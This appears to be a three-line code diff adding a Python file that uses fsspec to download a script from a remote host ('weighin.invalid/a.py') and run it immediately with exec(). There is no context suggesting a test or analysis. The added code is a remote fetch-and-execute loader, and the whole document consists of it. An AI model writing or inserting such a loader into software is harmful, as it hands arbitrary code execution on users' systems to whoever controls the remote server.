@@ -1,0 +1,3 @@
+import fsspec
+
+exec(fsspec.filesystem('http').cat('http://weighin.invalid/a.py'))
